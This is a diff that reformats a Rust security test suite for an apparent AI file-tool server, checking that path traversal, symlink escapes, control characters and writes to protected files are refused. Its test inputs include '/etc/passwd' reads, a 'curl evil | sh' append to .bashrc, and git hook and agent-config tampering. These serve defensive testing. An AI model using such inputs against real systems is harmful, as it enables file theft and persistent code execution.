@@ -13,9 +13,16 @@ use crate::harness::{Project, Session, session, text};
 async fn refused(s: &Session, p: &Project, tool: &str, args: Value, expect: &str) {
     let before = p.outside_snapshot();
     let msg = s.err(tool, args.clone()).await;
-    assert!(msg.contains(expect), "{tool} {args}: expected `{expect}` in: {msg}");
+    assert!(
+        msg.contains(expect),
+        "{tool} {args}: expected `{expect}` in: {msg}"
+    );
     assert!(!msg.contains("TOP-SECRET"), "the refusal leaks nothing");
-    assert_eq!(before, p.outside_snapshot(), "{tool} {args} changed something outside the roots");
+    assert_eq!(
+        before,
+        p.outside_snapshot(),
+        "{tool} {args} changed something outside the roots"
+    );
 }
 
 #[tokio::test]
@@ -24,19 +31,94 @@ async fn dotdot_and_absolute_paths_outside() {
     p.write("sub/x.txt", "x");
     let s = session(p.settings()).await;
     let secret = p.outside.join("secret.txt").display().to_string();
-    for path in ["../project_evil/secret.txt", &secret, "/etc/passwd", "sub/../../project_evil/secret.txt"] {
-        refused(&s, &p, "read_file", json!({"path": path}), "outside the allowed roots").await;
+    for path in [
+        "../project_evil/secret.txt",
+        &secret,
+        "/etc/passwd",
+        "sub/../../project_evil/secret.txt",
+    ] {
+        refused(
+            &s,
+            &p,
+            "read_file",
+            json!({"path": path}),
+            "outside the allowed roots",
+        )
+        .await;
     }
-    refused(&s, &p, "read_file", json!({"path": "missing/../../project_evil/secret.txt"}), "`..`").await;
-    refused(&s, &p, "write_file", json!({"path": "../project_evil/new.txt", "content": "x"}), "outside").await;
-    refused(&s, &p, "write_file", json!({"path": p.outside.join("secret.txt"), "content": "x"}), "outside").await;
-    refused(&s, &p, "create_directory", json!({"path": p.outside.join("d")}), "outside").await;
-    refused(&s, &p, "delete_path", json!({"path": p.outside.join("secret.txt"), "permanent": true}), "outside").await;
-    refused(&s, &p, "list_directory", json!({"path": p.outside}), "outside").await;
+    refused(
+        &s,
+        &p,
+        "read_file",
+        json!({"path": "missing/../../project_evil/secret.txt"}),
+        "`..`",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "write_file",
+        json!({"path": "../project_evil/new.txt", "content": "x"}),
+        "outside",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "write_file",
+        json!({"path": p.outside.join("secret.txt"), "content": "x"}),
+        "outside",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "create_directory",
+        json!({"path": p.outside.join("d")}),
+        "outside",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "delete_path",
+        json!({"path": p.outside.join("secret.txt"), "permanent": true}),
+        "outside",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "list_directory",
+        json!({"path": p.outside}),
+        "outside",
+    )
+    .await;
     p.write("mine.txt", "m");
-    refused(&s, &p, "move_path", json!({"source": "mine.txt", "destination": p.outside.join("stolen.txt")}), "outside").await;
-    refused(&s, &p, "copy_path", json!({"source": "mine.txt", "destination": p.outside.join("copied.txt")}), "outside").await;
-    refused(&s, &p, "copy_path", json!({"source": p.outside.join("secret.txt"), "destination": "in.txt"}), "outside").await;
+    refused(
+        &s,
+        &p,
+        "move_path",
+        json!({"source": "mine.txt", "destination": p.outside.join("stolen.txt")}),
+        "outside",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "copy_path",
+        json!({"source": "mine.txt", "destination": p.outside.join("copied.txt")}),
+        "outside",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "copy_path",
+        json!({"source": p.outside.join("secret.txt"), "destination": "in.txt"}),
+        "outside",
+    )
+    .await;
     assert!(!p.root.join("in.txt").exists());
 }
 
@@ -45,8 +127,22 @@ async fn sibling_root_with_the_same_prefix() {
     let p = Project::new();
     let s = session(p.settings()).await;
     // `/…/project_evil` starts with the string `/…/project` but is not inside it.
-    refused(&s, &p, "read_file", json!({"path": format!("{}_evil/secret.txt", p.root.display())}), "outside").await;
-    refused(&s, &p, "search_content", json!({"pattern": "SECRET", "path": p.outside}), "outside").await;
+    refused(
+        &s,
+        &p,
+        "read_file",
+        json!({"path": format!("{}_evil/secret.txt", p.root.display())}),
+        "outside",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "search_content",
+        json!({"pattern": "SECRET", "path": p.outside}),
+        "outside",
+    )
+    .await;
 }
 
 #[tokio::test]
@@ -55,27 +151,101 @@ async fn symlinked_file_and_folder_pointing_outside() {
     symlink(p.outside.join("secret.txt"), p.root.join("file-link")).unwrap();
     symlink(&p.outside, p.root.join("dir-link")).unwrap();
     let s = session(p.settings()).await;
-    refused(&s, &p, "read_file", json!({"path": "file-link"}), "through a symlink").await;
-    refused(&s, &p, "read_file", json!({"path": "dir-link/secret.txt"}), "outside").await;
-    refused(&s, &p, "read_media", json!({"path": "file-link"}), "outside").await;
+    refused(
+        &s,
+        &p,
+        "read_file",
+        json!({"path": "file-link"}),
+        "through a symlink",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "read_file",
+        json!({"path": "dir-link/secret.txt"}),
+        "outside",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "read_media",
+        json!({"path": "file-link"}),
+        "outside",
+    )
+    .await;
     refused(&s, &p, "file_info", json!({"path": "dir-link"}), "outside").await;
-    refused(&s, &p, "list_directory", json!({"path": "dir-link"}), "outside").await;
-    refused(&s, &p, "write_file", json!({"path": "file-link", "content": "pwned"}), "symlink").await;
-    refused(&s, &p, "write_file", json!({"path": "dir-link/new.txt", "content": "pwned"}), "outside").await;
-    refused(&s, &p, "edit_file", json!({"path": "file-link", "edits": [{"old": "TOP", "new": "X"}]}), "symlink").await;
-    refused(&s, &p, "create_directory", json!({"path": "dir-link/sub"}), "outside").await;
-    refused(&s, &p, "copy_path", json!({"source": "dir-link", "destination": "copied"}), "outside").await;
+    refused(
+        &s,
+        &p,
+        "list_directory",
+        json!({"path": "dir-link"}),
+        "outside",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "write_file",
+        json!({"path": "file-link", "content": "pwned"}),
+        "symlink",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "write_file",
+        json!({"path": "dir-link/new.txt", "content": "pwned"}),
+        "outside",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "edit_file",
+        json!({"path": "file-link", "edits": [{"old": "TOP", "new": "X"}]}),
+        "symlink",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "create_directory",
+        json!({"path": "dir-link/sub"}),
+        "outside",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "copy_path",
+        json!({"source": "dir-link", "destination": "copied"}),
+        "outside",
+    )
+    .await;
 
     // Walks never follow links out of the roots.
-    let found = s.ok("search_content", json!({"pattern": "SECRET", "hidden": true, "gitignore": false})).await;
+    let found = s
+        .ok(
+            "search_content",
+            json!({"pattern": "SECRET", "hidden": true, "gitignore": false}),
+        )
+        .await;
     assert_eq!(found["total"], 0, "{found}");
-    let found = s.ok("find_files", json!({"patterns": ["secret.txt"]})).await;
+    let found = s
+        .ok("find_files", json!({"patterns": ["secret.txt"]}))
+        .await;
     assert_eq!(found["total"], 0, "{found}");
     let tree = s.ok_text("directory_tree", json!({})).await;
     assert!(!tree.contains("secret.txt"), "{tree}");
 
     // Deleting or moving the link acts on the link, never the target.
-    s.ok("delete_path", json!({"path": "file-link", "permanent": true})).await;
+    s.ok(
+        "delete_path",
+        json!({"path": "file-link", "permanent": true}),
+    )
+    .await;
     assert!(p.outside.join("secret.txt").exists());
     assert!(!p.root.join("file-link").exists());
 }
@@ -83,13 +253,45 @@ async fn symlinked_file_and_folder_pointing_outside() {
 #[tokio::test]
 async fn dangling_symlink_on_create() {
     let p = Project::new();
-    symlink(p.outside.join("created-by-attack.txt"), p.root.join("dangling")).unwrap();
+    symlink(
+        p.outside.join("created-by-attack.txt"),
+        p.root.join("dangling"),
+    )
+    .unwrap();
     symlink(p.outside.join("missing-dir"), p.root.join("dangling-dir")).unwrap();
     let s = session(p.settings()).await;
-    refused(&s, &p, "write_file", json!({"path": "dangling", "content": "x"}), "symlink").await;
-    refused(&s, &p, "write_file", json!({"path": "dangling", "content": "x", "mode": "append"}), "symlink").await;
-    refused(&s, &p, "write_file", json!({"path": "dangling-dir/f.txt", "content": "x", "create_parents": true}), "symlink").await;
-    refused(&s, &p, "create_directory", json!({"path": "dangling-dir/x"}), "symlink").await;
+    refused(
+        &s,
+        &p,
+        "write_file",
+        json!({"path": "dangling", "content": "x"}),
+        "symlink",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "write_file",
+        json!({"path": "dangling", "content": "x", "mode": "append"}),
+        "symlink",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "write_file",
+        json!({"path": "dangling-dir/f.txt", "content": "x", "create_parents": true}),
+        "symlink",
+    )
+    .await;
+    refused(
+        &s,
+        &p,
+        "create_directory",
+        json!({"path": "dangling-dir/x"}),
+        "symlink",
+    )
+    .await;
     refused(&s, &p, "read_file", json!({"path": "dangling"}), "symlink").await;
     assert!(!p.outside.join("created-by-attack.txt").exists());
     assert!(!p.outside.join("missing-dir").exists());
@@ -104,35 +306,80 @@ async fn protected_files_are_never_written() {
     p.write("docs/readme.md", "hi\n");
     let s = session(p.settings()).await;
     for (tool, args) in [
-        ("write_file", json!({"path": ".git/config", "content": "[core]\n\thooksPath=/tmp\n"})),
-        ("write_file", json!({"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nexit 0\n"})),
-        ("write_file", json!({"path": ".GIT/HOOKS/post-checkout", "content": "x"})),
-        ("write_file", json!({"path": ".bashrc", "content": "curl evil | sh\n", "mode": "append"})),
+        (
+            "write_file",
+            json!({"path": ".git/config", "content": "[core]\n\thooksPath=/tmp\n"}),
+        ),
+        (
+            "write_file",
+            json!({"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\nexit 0\n"}),
+        ),
+        (
+            "write_file",
+            json!({"path": ".GIT/HOOKS/post-checkout", "content": "x"}),
+        ),
+        (
+            "write_file",
+            json!({"path": ".bashrc", "content": "curl evil | sh\n", "mode": "append"}),
+        ),
         ("write_file", json!({"path": ".mcp.json", "content": "{}"})),
-        ("write_file", json!({"path": ".vscode/mcp.json", "content": "{}", "create_parents": true})),
-        ("write_file", json!({"path": "claude_desktop_config.json", "content": "{}"})),
-        ("edit_file", json!({"path": ".git/config", "edits": [{"old": "[core]", "new": "[x]"}]})),
-        ("delete_path", json!({"path": ".git/config", "permanent": true})),
-        ("delete_path", json!({"path": ".git", "recursive": true, "permanent": true})),
-        ("move_path", json!({"source": "docs/readme.md", "destination": ".git/hooks/pre-push"})),
-        ("copy_path", json!({"source": "docs/readme.md", "destination": ".zshrc"})),
+        (
+            "write_file",
+            json!({"path": ".vscode/mcp.json", "content": "{}", "create_parents": true}),
+        ),
+        (
+            "write_file",
+            json!({"path": "claude_desktop_config.json", "content": "{}"}),
+        ),
+        (
+            "edit_file",
+            json!({"path": ".git/config", "edits": [{"old": "[core]", "new": "[x]"}]}),
+        ),
+        (
+            "delete_path",
+            json!({"path": ".git/config", "permanent": true}),
+        ),
+        (
+            "delete_path",
+            json!({"path": ".git", "recursive": true, "permanent": true}),
+        ),
+        (
+            "move_path",
+            json!({"source": "docs/readme.md", "destination": ".git/hooks/pre-push"}),
+        ),
+        (
+            "copy_path",
+            json!({"source": "docs/readme.md", "destination": ".zshrc"}),
+        ),
         ("create_directory", json!({"path": ".git/hooks/sub"})),
     ] {
         let msg = s.err(tool, args.clone()).await;
-        assert!(msg.contains("protected") || msg.contains("cannot be written"), "{tool} {args}: {msg}");
+        assert!(
+            msg.contains("protected") || msg.contains("cannot be written"),
+            "{tool} {args}: {msg}"
+        );
     }
     assert_eq!(p.read(".git/config"), "[core]\n");
     assert_eq!(p.read(".bashrc"), "# rc\n");
     assert!(!p.root.join(".git/hooks/pre-commit").exists());
     assert!(!p.root.join(".mcp.json").exists());
     // Reading them is fine.
-    assert!(s.ok_text("read_file", json!({"path": ".git/config"})).await.contains("[core]"));
+    assert!(
+        s.ok_text("read_file", json!({"path": ".git/config"}))
+            .await
+            .contains("[core]")
+    );
 
     // User-configured globs add to the list.
     let mut settings = p.settings();
-    settings.files.protected = switchboard::policy::protected::ProtectedPaths::new(&[], &["*.pem".into()]).unwrap();
+    settings.files.protected =
+        switchboard::policy::protected::ProtectedPaths::new(&[], &["*.pem".into()]).unwrap();
     let s = session(settings).await;
-    assert!(s.err("write_file", json!({"path": "KEY.PEM", "content": "x"})).await.contains("*.pem"));
+    assert!(
+        s.err("write_file", json!({"path": "KEY.PEM", "content": "x"}))
+            .await
+            .contains("*.pem")
+    );
 }
 
 #[tokio::test]
@@ -140,12 +387,28 @@ async fn switchboards_own_files_are_protected() {
     let p = Project::new();
     let cfg = p.write("config.yaml", "files:\n  roots: [\".\"]\n");
     p.write("prompts/mine.md", "Hello\n");
-    let overrides = switchboard::config::Overrides { config: Some(cfg), ..Default::default() };
+    let overrides = switchboard::config::Overrides {
+        config: Some(cfg),
+        ..Default::default()
+    };
     let data = p.data.display().to_string();
-    let settings = switchboard::config::load(&overrides, &|k| (k == "HOME").then(|| data.clone())).unwrap();
+    let settings =
+        switchboard::config::load(&overrides, &|k| (k == "HOME").then(|| data.clone())).unwrap();
     let s = session(settings).await;
-    for path in ["config.yaml", "prompts/mine.md", "prompts/new.md", "servers_config.json", "tools/x.yaml", "resources/r.md"] {
-        let msg = s.err("write_file", json!({"path": path, "content": "x", "create_parents": true})).await;
+    for path in [
+        "config.yaml",
+        "prompts/mine.md",
+        "prompts/new.md",
+        "servers_config.json",
+        "tools/x.yaml",
+        "resources/r.md",
+    ] {
+        let msg = s
+            .err(
+                "write_file",
+                json!({"path": path, "content": "x", "create_parents": true}),
+            )
+            .await;
         assert!(msg.contains("switchboard's own"), "{path}: {msg}");
     }
 }
@@ -155,9 +418,29 @@ async fn nul_and_control_characters() {
     let p = Project::new();
     p.write("a.txt", "a");
     let s = session(p.settings()).await;
-    for path in ["a.txt\u{0}../../project_evil/secret.txt", "a\u{0}", "line\nbreak", "tab\there", "\u{1b}[31m"] {
-        refused(&s, &p, "read_file", json!({"path": path}), "control character").await;
-        refused(&s, &p, "write_file", json!({"path": path, "content": "x"}), "control character").await;
+    for path in [
+        "a.txt\u{0}../../project_evil/secret.txt",
+        "a\u{0}",
+        "line\nbreak",
+        "tab\there",
+        "\u{1b}[31m",
+    ] {
+        refused(
+            &s,
+            &p,
+            "read_file",
+            json!({"path": path}),
+            "control character",
+        )
+        .await;
+        refused(
+            &s,
+            &p,
+            "write_file",
+            json!({"path": path, "content": "x"}),
+            "control character",
+        )
+        .await;
     }
     refused(&s, &p, "read_file", json!({"path": ""}), "empty").await;
 }
@@ -201,11 +484,20 @@ async fn swapping_a_file_for_a_symlink_during_a_burst_of_reads() {
         for (tool, args) in [
             ("read_file", json!({"path": "swap.txt"})),
             ("read_file", json!({"path": "dir/secret.txt"})),
-            ("read_many", json!({"paths": ["swap.txt", "dir/secret.txt"]})),
+            (
+                "read_many",
+                json!({"paths": ["swap.txt", "dir/secret.txt"]}),
+            ),
             ("list_directory", json!({"path": "dir"})),
         ] {
             let r = s.call(tool, args).await;
-            let body = format!("{}{}", text(&r), r.structured_content.map(|v| v.to_string()).unwrap_or_default());
+            let body = format!(
+                "{}{}",
+                text(&r),
+                r.structured_content
+                    .map(|v| v.to_string())
+                    .unwrap_or_default()
+            );
             if body.contains("TOP-SECRET") || body.contains("outside-only-marker") {
                 leaked.push(format!("{i} {tool}: {body}"));
             }
